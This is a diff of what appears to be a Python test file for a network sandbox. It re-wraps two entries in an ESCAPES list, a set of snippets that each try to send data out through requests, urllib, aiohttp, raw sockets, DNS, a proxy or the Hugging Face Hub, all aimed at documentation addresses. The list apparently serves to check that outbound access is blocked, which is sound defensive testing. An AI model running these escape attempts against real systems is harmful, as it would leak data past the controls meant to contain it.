@@ -71,7 +71,8 @@ def allow_list(path, *entries):
 ESCAPES = {
     "requests": "import requests; requests.post('http://192.0.2.1/', data='note')",
     "urllib": "import urllib.request; urllib.request.urlopen('https://collect.example/')",
-    "aiohttp": "import aiohttp, asyncio\nasync def go():\n async with aiohttp.ClientSession() as s: await s.post('http://192.0.2.1/')\nasyncio.run(go())",
+    "aiohttp": "import aiohttp, asyncio\nasync def go():\n async with aiohttp.ClientSession() as s: await "
+    "s.post('http://192.0.2.1/')\nasyncio.run(go())",
     "httpx": "import httpx; httpx.post('https://collect.example/', content='note')",
     "a bare socket": "import socket; socket.socket().connect(('192.0.2.1', 80))",
     "a datagram": "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'note', ('192.0.2.1', 53))",
@@ -79,7 +80,8 @@ ESCAPES = {
     "a reverse look-up": "import socket; socket.gethostbyaddr('note.collect.example')",
     "the name of an address": "import socket; socket.getnameinfo(('192.0.2.1', 80), 0)",
     "IPv6": "import socket; socket.socket(socket.AF_INET6).connect(('2001:db8::1', 80))",
-    "a proxy": "import os, urllib.request; assert 'https_proxy' not in os.environ; urllib.request.urlopen('http://192.0.2.9:3128/')",
+    "a proxy": "import os, urllib.request; assert 'https_proxy' not in os.environ; "
+    "urllib.request.urlopen('http://192.0.2.9:3128/')",
     "a push to the Hub": "from huggingface_hub import HfApi; HfApi(token='hf_x').create_repo('org/notes')",
     "telemetry of the Hub's client": (
         "from huggingface_hub.utils import _telemetry as t\n"
